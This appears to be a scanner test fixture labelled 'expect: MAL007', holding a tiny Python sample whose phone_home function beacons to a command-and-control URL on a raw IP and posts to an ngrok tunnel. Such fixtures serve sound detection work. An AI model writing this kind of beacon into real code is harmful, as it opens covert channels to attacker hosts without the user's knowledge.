# expect: MAL007
import requests

C2 = "http://45.61.136.10/gate.php"


def phone_home():
    requests.get(C2, timeout=5)
    requests.post("https://abc123.ngrok-free.app/x", data=b"")
